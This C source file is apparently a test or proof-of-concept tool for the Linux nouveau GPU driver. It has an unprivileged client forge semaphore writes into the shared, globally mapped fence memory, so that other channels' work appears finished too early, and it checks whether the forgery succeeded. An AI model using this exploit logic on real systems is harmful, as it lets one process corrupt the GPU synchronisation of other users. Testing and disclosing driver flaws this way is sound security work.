// SPDX-License-Identifier: GPL-2.0
/*
 * abuse - a client that writes into the memory of nouveau's fences, which nouveau maps into every
 * client's address space.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <xf86drm.h>

#include "abuse.h"

#define SEMAPHORE	0x0010		/* PFIFO's own: address, number, and what to do */
#define RELEASE		2
#define WORDS		5
#define SLOT		16		/* bytes: number, time */
#define AHEAD		0x40000000u	/* no channel has made so many fences */

/* Each group of the channel first writes into its slot that the GPU has reached all its fences. */
static void forge(struct chan *ch, uint64_t slot)
{
	const uint32_t write[WORDS] = {
		4 << 18 | SEMAPHORE, (uint32_t)(slot >> 32), (uint32_t)slot, AHEAD, RELEASE,
	};
	unsigned int i;

	for (i = 0; i < SLOTS; i++) {
		uint32_t *words = (uint32_t *)(ch->map + i * SLOT_BYTES);

		memmove(words + WORDS, words, ch->words * 4);
		memcpy(words, write, sizeof(write));
	}
	ch->words += WORDS;
	ch->patch += WORDS;
}

static bool is_idle(const struct chan *ch)
{
	struct drm_nouveau_gem_cpu_prep prep = {
		.handle = ch->handle, .flags = NOUVEAU_GEM_CPU_PREP_NOWAIT,
	};

	return !talk(ch->fd, DRM_IOW(DRM_COMMAND_BASE + DRM_NOUVEAU_GEM_CPU_PREP,
				     struct drm_nouveau_gem_cpu_prep), &prep);
}

/*
 * forge N COST SLOTS: N groups, each submitted while the slot of the channel says that the GPU has
 * reached it already. SLOTS: where the memory of the fences lies in a client's address space.
 */
void do_forge(char **args)
{
	unsigned int i, n = number(args[0]), cost_us = number(args[1]), early = 0;
	struct chan ch;

	chan_new(&ch, open_node(), cost_us);
	forge(&ch, strtoull(args[2], NULL, 0) + SLOT * ch.id);
	for (i = 1; i <= n; i++) {
		must("submission", submit(&ch, i));
		sleep_ms(cost_us / 2000);
		early += is_idle(&ch);
	}
	if (early < n / 2)
		fail("%u of %u groups were over too early: the slots are not at %s", early, n,
		     args[2]);
	sleep_ms(cost_us / 1000 * SLOTS);
	printf("%u of %u were over too early\n", early, n);
}
